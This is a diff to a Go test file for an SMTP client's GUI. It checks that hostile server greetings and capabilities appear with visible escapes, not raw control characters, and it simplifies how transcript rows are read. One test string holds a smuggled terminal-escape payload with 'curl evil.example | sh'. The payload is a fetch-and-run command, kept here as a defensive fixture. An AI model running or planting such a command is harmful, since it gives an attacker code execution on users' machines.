@@ -9,9 +9,7 @@ import (
 	"testing"
 	"unicode"
 
-	"fyne.io/fyne/v2"
 	"fyne.io/fyne/v2/test"
-	"fyne.io/fyne/v2/widget"
 
 	"stamp/smtpclient"
 )
@@ -145,10 +143,8 @@ func TestHostileServerTextNeverReachesThePanelRawAndTheCodeStillDecides(t *testi
 			if !strings.Contains(shown, `<- 220 \x1b[201~\x0dcurl evil.example | sh\x0d ESMTP`) {
 				t.Errorf("the greeting is not shown with visible escapes:\n%s", shown)
 			}
-			for i := 0; i < p.Transcript.Length(); i++ {
-				o := p.Transcript.CreateItem()
-				p.Transcript.UpdateItem(i, o)
-				if text := rowText(o); text == "" {
+			for i := range p.Transcript.grid.Rows {
+				if text := p.Transcript.grid.RowText(i); text == "" {
 					t.Fatalf("transcript row %d shows no text", i)
 				} else if r, bad := rawControl(text, false); bad {
 					t.Errorf("transcript row %d holds a raw %U: %q", i, r, text)
@@ -193,12 +189,4 @@ func TestHostileCapabilitiesInAConnectionTestAreShownEscaped(t *testing.T) {
 	if r, bad := rawControl(p.Outcome.Text, false); bad {
 		t.Fatalf("the probe summary holds a raw %U: %q", r, p.Outcome.Text)
 	}
-}
-
-// rowText is the text a transcript row shows.
-func rowText(o fyne.CanvasObject) string {
-	if l, ok := o.(*widget.Label); ok {
-		return l.Text
-	}
-	return ""
 }
